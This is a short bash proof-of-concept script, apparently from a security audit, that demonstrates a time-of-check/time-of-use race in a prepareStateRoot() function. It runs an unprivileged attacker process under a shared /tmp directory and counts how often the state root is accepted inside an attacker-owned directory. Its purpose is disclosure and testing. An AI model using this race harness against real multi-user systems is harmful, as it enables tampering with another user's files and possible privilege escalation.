#!/bin/bash
# prepareStateRoot() checks the ancestors of the state root BEFORE it creates the missing ones
# (mkdir -p), never after. Another user who creates a missing ancestor in that window gets the
# state root created inside a directory of theirs, and the run goes on with it ("ok").
# Setup: a sticky, world-writable parent (like /tmp) and DOCKER_JANITOR_STATE_DIR=<parent>/dN/dj
# where dN does not exist yet. uid 65534 creates and removes dN in a tight loop (race-attacker.py).
source "$(dirname "$0")/lib.sh"
top=$(mktemp -d /tmp/a3-race.XXXX); chmod 1777 "$top"; echo > "$top/cur"; chmod 666 "$top/cur"
N=${N:-300}
setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/python3 "$ATTACK_DIR/race-attacker.py" "$top" &
attacker=$!
node --input-type=module -e "
import { prepareStateRoot } from '$REPO/dist/session/store.js';
import { statSync, writeFileSync } from 'node:fs';
let won = 0, refused = 0, clean = 0, first;
for (let n = 1; n <= $N; n++) {
  writeFileSync('$top/cur', 'd' + n);
  await new Promise((r) => setTimeout(r, 5));
  const root = '$top/d' + n + '/dj';
  const check = prepareStateRoot(root);
  let st; try { st = statSync('$top/d' + n); } catch {}
  if (check.ok && st?.uid === 65534) { won++; first ??= root + ': prepareStateRoot ok, its parent owned by uid ' + st.uid + ' mode ' + (st.mode & 0o7777).toString(8); }
  else if (!check.ok) refused++; else clean++;
}
writeFileSync('$top/cur', '');
console.log('of $N tries: accepted inside a directory of uid 65534:', won, '| refused:', refused, '| parent created by root:', clean);
if (first) console.log('e.g.', first);
"
touch "$top/stop"; wait $attacker 2>/dev/null
rm -rf "$top"
